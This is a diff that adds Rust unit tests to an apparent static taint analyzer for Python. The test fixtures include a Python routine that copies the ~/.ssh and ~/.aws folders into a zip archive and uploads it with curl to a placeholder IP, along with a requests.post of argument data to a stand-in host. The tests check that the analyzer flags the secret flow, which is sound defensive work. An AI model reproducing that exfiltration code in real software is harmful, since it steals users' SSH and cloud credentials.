@@ -840,6 +840,61 @@ fn a_library_function_started_on_a_thread_is_called() {
 }
 
 #[test]
+fn a_package_function_started_on_a_thread_is_called_with_each_argument() {
+    let a = model(
+        "import threading\n\
+         def ship(key, host):\n    pass\n\
+         def start(secret, where):\n    threading.Thread(target=ship, args=(secret, where)).start()\n",
+        FileRole::Module,
+    );
+    let started = a.local_calls.iter().find(|c| &*c.callee == "ship").unwrap();
+    assert_eq!(started.function.as_deref(), Some("start"));
+    assert_eq!(started.args.len(), 2);
+    assert_eq!(started.args[0].params, 1 << 0);
+    assert_eq!(started.args[1].params, 1 << 1);
+}
+
+#[test]
+fn star_parameters_carry_what_the_caller_passed_beyond_the_named_ones() {
+    let a = model(
+        "import requests\n\
+         def measure(first, *rest, flag, **extra):\n\
+         \x20   requests.post('https://x.example/r', json=[rest, extra])\n",
+        FileRole::Module,
+    );
+    let measure = a.functions.iter().find(|f| &*f.name == "measure").unwrap();
+    assert_eq!(
+        &*measure.params,
+        ["first", "*rest", "flag", "**extra"].map(Arc::from)
+    );
+    assert_eq!(sent(&a, "requests.post", "json").params, 1 << 1 | 1 << 3);
+}
+
+#[test]
+fn a_copy_of_credential_folders_is_a_path_to_credentials() {
+    let a = model(
+        "import os, shutil, subprocess, tempfile\n\
+         def pack():\n\
+         \x20   out = tempfile.mkdtemp()\n\
+         \x20   for name in ('.ssh', '.aws'):\n\
+         \x20       shutil.copytree(os.path.join(os.path.expanduser('~'), name), os.path.join(out, name))\n\
+         \x20   return shutil.make_archive('/tmp/x', 'zip', out)\n\
+         def send():\n\
+         \x20   path = pack()\n\
+         \x20   subprocess.run(['curl', '-F', f'f=@{path}', 'http://192.0.2.7/u'])\n\
+         \x20   subprocess.run(['ls', path])\n",
+        FileRole::Module,
+    );
+    let runs: Vec<_> = a
+        .calls
+        .iter()
+        .filter(|c| c.name == "subprocess.run")
+        .collect();
+    assert!(runs[0].args[0].has(taint::SECRET), "{:?}", runs[0].args[0]);
+    assert!(!runs[1].args[0].has(taint::SECRET), "{:?}", runs[1].args[0]);
+}
+
+#[test]
 fn functions_keep_their_decorators_and_docstring() {
     let a = model(
         "from mcp.server.fastmcp import FastMCP\nmcp = FastMCP('x')\n\
